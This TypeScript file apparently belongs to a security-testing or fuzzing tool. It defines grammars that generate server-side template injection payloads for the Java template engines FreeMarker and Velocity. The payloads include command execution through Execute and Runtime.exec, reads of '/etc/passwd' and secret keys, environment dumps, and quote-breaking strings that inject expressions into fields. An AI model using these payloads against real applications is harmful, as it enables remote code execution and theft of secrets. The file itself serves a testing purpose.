import type { Random } from '../../lib/random.ts';
import type { Grammar } from '../contract.ts';
import {
  arithmetic,
  command,
  type Dialect,
  type Goals,
  name,
  number,
  sum,
  templateGrammar,
} from './template.ts';

const quote = (random: Random): string => random.pick(['"', "'"]);

function file(random: Random): string {
  return random.pick([
    `/etc/${name(random)}`,
    `/${name(random)}/${name(random)}.txt`,
    '/etc/passwd',
  ]);
}

/** FreeMarker's own classes that `?new` makes an object of. */
function utility(random: Random, type: string): string {
  const mark = quote(random);
  return `${mark}freemarker.template.utility.${type}${mark}?new()`;
}

const freemarkerSecret: Goals[number] = [
  'secret',
  (random) =>
    random.pick([
      'config.secret_key',
      'config["secret_key"]',
      "config['secret_key']",
      'config?values?join(",")',
      'config?values[0]',
      '.data_model.config.secret_key',
      '.globals.config.secret_key',
      '.vars["config"].secret_key',
    ]),
];

const freemarkerGoals: Goals = [
  arithmetic,
  freemarkerSecret,
  ['execute', (random) => `${utility(random, 'Execute')}("${command(random)}")`],
  [
    'constructor',
    (random) =>
      `${utility(random, 'ObjectConstructor')}(${random.pick([
        `"java.io.FileReader","${file(random)}"`,
        `"java.net.Socket","${name(random)}.test",${number(random)}`,
        `"java.io.FileOutputStream",'${file(random)}'`,
      ])})`,
  ],
  [
    'process',
    (random) =>
      `${utility(random, 'ObjectConstructor')}("java.lang.ProcessBuilder","${command(random)}").start()`,
  ],
  ['class', (random) => random.pick(['user.class', 'user.getClass()', 'user.class.name'])],
  [
    'class of another',
    (random) => random.pick(['user.class.protectionDomain', 'user.class.getMethods()[0]']),
  ],
  [
    'evaluated',
    (random) =>
      random.pick([
        '"config.secret_key"?eval',
        `'${sum(random)}'?eval`,
        '"config"?eval.secret_key',
      ]),
  ],
  [
    'letters',
    (random) =>
      random.times(4 + random.below(4), () => `${1 + random.below(26)}?lower_abc`).join('+'),
  ],
];

function execute(random: Random): string {
  return utility(random, 'Execute');
}

const freemarker: Dialect = {
  language: 'freemarker',
  marks: [
    (one) => `\${${one}}`,
    (one) => `\${${one}}`,
    (one) => `\${ ${one} }`,
    (one) => `<#if 1==1>\${${one}}</#if>`,
    (one) => `<#list [1] as x>\${${one}}</#list>`,
  ],
  statements: [
    [
      'variable',
      (random) => {
        const x = name(random);
        const kind = random.pick(['assign', 'global']);
        return random.pick([
          `<#${kind} ${x}=${sum(random)}>\${${x}}`,
          `[#${kind} ${x}=${sum(random)}]\${${x}}`,
        ]);
      },
    ],
    [
      'execute by a variable',
      (random) => {
        const x = name(random);
        return random.pick([
          `<#assign ${x}=${execute(random)}>\${${x}("${command(random)}")}`,
          `<#assign ${x} = ${execute(random)} >\${ ${x}('${command(random)}') }`,
          `[#assign ${x} = ${execute(random)}]\${${x}('${command(random)}')}`,
        ]);
      },
    ],
    [
      'include',
      (random) =>
        random.pick(['<#include "settings.ftl">', "<#include '/settings.ftl' parse=false>"]),
    ],
    [
      'loop',
      (random) => {
        const x = name(random);
        return random.pick([
          `<#list config?values as ${x}>\${${x}}</#list>`,
          `<#list config as ${x}, v>\${v}</#list>`,
          `<#list [1] as ${x}>\${${sum(random)}}</#list>`,
        ]);
      },
    ],
    [
      'function',
      (random) => {
        const x = name(random);
        return `<#function ${x}><#return ${sum(random)}></#function>\${${x}()}`;
      },
    ],
    [
      'macro',
      (random) => {
        const x = name(random);
        return `<#macro ${x}>\${config.secret_key}</#macro><@${x}/>`;
      },
    ],
    [
      'interpreted',
      (random) =>
        random.pick([
          `<@"\${r'$'}{config.secret_key}"?interpret/>`,
          `<#assign x="<#include 'settings.ftl'>"?interpret><@x/>`,
        ]),
    ],
  ],
  goals: freemarkerGoals,
  joins: [
    (one) => `"+(${one})+"`,
    (one) => `" + (${one}) + "`,
    (one) => `\${${one.replaceAll('"', "'")}}`,
    (one) => `"}\${${one}}\${"`,
  ],
};

/** What stands in text as it is, and in an expression. */
const references: Goals = [
  [
    'secret',
    (random) =>
      random.pick([
        '$config.secret_key',
        '$config.get("secret_key")',
        "$config.get('secret_key')",
        `$config.getOrDefault('secret_key',${number(random)})`,
        '$config["secret_key"]',
      ]),
  ],
  ['settings', (random) => random.pick(['$config', '$config.values()', '$config.entrySet()'])],
  ['class', (random) => random.pick(['$user.class', '$user.getClass()', '$user.class.name'])],
  [
    'loader',
    (random) =>
      `$user.${random.pick(['class', 'getClass()'])}.${random.pick(['classLoader.class', 'protectionDomain', 'getMethods()'])}`,
  ],
  [
    'runtime',
    (random) =>
      `$user.${random.pick(['class', 'getClass()'])}.forName("java.lang.Runtime").${random.pick(['getRuntime()', 'runtime'])}.exec("${command(random)}")`,
  ],
  [
    'system',
    (random) =>
      `$user.class.forName('java.lang.System').${random.pick([
        'getProperties()',
        'getenv()',
        `getProperty('${random.pick(['java.version', 'os.name', 'user.dir'])}')`,
      ])}`,
  ],
  [
    'inspected',
    (random) =>
      random.pick([
        '$class.inspect("java.lang.Runtime").type',
        `$class.inspect("java.lang.Runtime").type.getRuntime().exec("${command(random)}")`,
        "$class.inspect('java.lang.System').type.getenv()",
      ]),
  ],
  ['tool', (random) => random.pick(['$class', '$class.type', '$class.inspect("java.io.File")'])],
];

const set = (one: string, x: string): string => `#set($${x}=${one})$${x}`;
const shown = (one: string): string => (one.startsWith('$') ? one : set(one, 'x'));

const velocity: Dialect = {
  language: 'velocity',
  marks: [
    shown,
    shown,
    (one) => set(one, 'x'),
    (one) => `#set( $v = ${one} )\${v}`,
    (one) => `#if(true)${shown(one)}#end`,
    (one) => `#foreach($x in [${one}])$x#end`,
  ],
  statements: [
    ['variable', (random) => set(sum(random), name(random))],
    [
      'class of a string',
      (random) => {
        const x = name(random);
        return `#set($${x}=${random.pick(["''", '""', '"a"', '1', '[]'])})$${x}.${random.pick(['class', 'getClass()'])}.forName("java.lang.Runtime").getRuntime().exec("${command(random)}")`;
      },
    ],
    [
      'class by a variable',
      (random) => {
        const x = name(random);
        return `#set($${x}=$user.class.forName('java.lang.Runtime'))$${x}.getRuntime().exec('${command(random)}')`;
      },
    ],
    [
      'include',
      (random) =>
        `#${random.pick(['include', 'parse'])}(${random.pick(['"settings.vm"', "'settings.vm'", '"/settings.vm"'])})`,
    ],
    [
      'evaluated',
      (random) => random.pick(["#evaluate('$config.secret_key')", '#evaluate("$config")']),
    ],
    [
      'loop',
      (random) => {
        const x = name(random);
        return random.pick([
          `#foreach($${x} in $config.values())$${x}#end`,
          `#foreach($${x} in $config)$${x}#end`,
          `#foreach($${x} in [1..2])${set(sum(random), 'y')}#end`,
        ]);
      },
    ],
    [
      'macro',
      (random) => {
        const x = name(random);
        return `#macro(${x})$config.secret_key#end#${x}()`;
      },
    ],
    ['block', (random) => `#define($d)$config.secret_key#end${random.pick(['$d', '${d}'])}`],
  ],
  goals: [arithmetic, ...references],
  joins: [
    (one) => shown(one).replaceAll('"', "'"),
    (one) => `")${shown(one)}#set($z="`,
    (one) => `")\n${shown(one)} #set($z = "`,
  ],
};

/** A grammar for each template engine of Java, under its name. */
export const javaTemplateGrammars: readonly Grammar[] = [freemarker, velocity].map(templateGrammar);
